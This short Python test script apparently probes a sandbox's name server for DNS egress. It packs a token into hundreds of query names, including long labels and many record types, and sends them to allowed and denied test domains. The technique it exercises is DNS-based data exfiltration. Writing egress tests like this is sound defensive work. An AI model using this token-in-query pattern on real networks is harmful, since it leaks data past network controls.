"""Questions to the name server inside, with words in them."""

from probe import *

LONG = (TOKEN + "q" * 63)[:63]
NAMES = [f"{TOKEN}{number}.allowed.test" for number in range(300)] + [
    ".".join([LONG] * 3) + ".allowed.test",
    LONG + ".denied.test",
    TOKEN + ".www.allowed.test",
]
OTHER_TYPES = (16, 5, 2, 6, 12, 15, 33, 35, 43, 46, 64, 65, 251, 252, 255, 10, 0, 65535)


def control():
    ask("203.0.113.53", question(TOKEN + ".allowed.test"))


def attack():
    for name in NAMES:
        for kind in (1, 28):
            say("question", status(ask("127.0.0.1", question(name, kind))))
    for kind in OTHER_TYPES:
        for name in (".allowed.test", ".denied.test"):
            say("other", status(ask("127.0.0.1", question(TOKEN + name, kind))))
    for name in (".allowed.test", ".denied.test"):
        say("lookup", attempt(socket.gethostbyname, TOKEN + name))


start(attack, control)
